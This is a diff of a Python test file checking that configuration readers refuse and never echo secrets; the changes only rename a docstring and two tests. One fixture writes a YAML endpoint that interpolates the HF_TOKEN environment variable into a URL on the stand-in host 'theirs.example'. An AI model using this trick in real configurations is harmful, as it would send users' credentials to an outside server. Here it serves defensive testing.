@@ -1,4 +1,4 @@
-"""A configuration with a secret in it is refused, by each program that reads one, and not quoted."""
+"""Every program that reads a configuration refuses one with a secret, and does not show it."""
 
 import os
 
@@ -41,7 +41,7 @@ def test_refused(monkeypatch, values, said: str):
     assert CANARY not in str(error.value)
 
 
-def test_what_merely_sounds_like_one_is_not():
+def test_names_that_only_sound_secret_are_accepted():
     refuse_secrets(
         {"data": {"prompt_key": "prompt", "reward_fn_key": "data_source"}, "image_token": "<image>", "token": ""}
     )
@@ -67,7 +67,7 @@ def test_a_run_is_not_started(monkeypatch, override: str):
     assert CANARY not in str(error.value)
 
 
-def test_somebodys_file_sends_no_key_to_their_server(monkeypatch, tmp_path):
+def test_a_foreign_configuration_cannot_send_a_key_to_its_server(monkeypatch, tmp_path):
     monkeypatch.setenv("HF_TOKEN", CANARY)
     file = tmp_path / "shared.yaml"
     file.write_text("servers: {one: {endpoints: ['http://theirs.example/${oc.env:HF_TOKEN}/v1']}}\n")
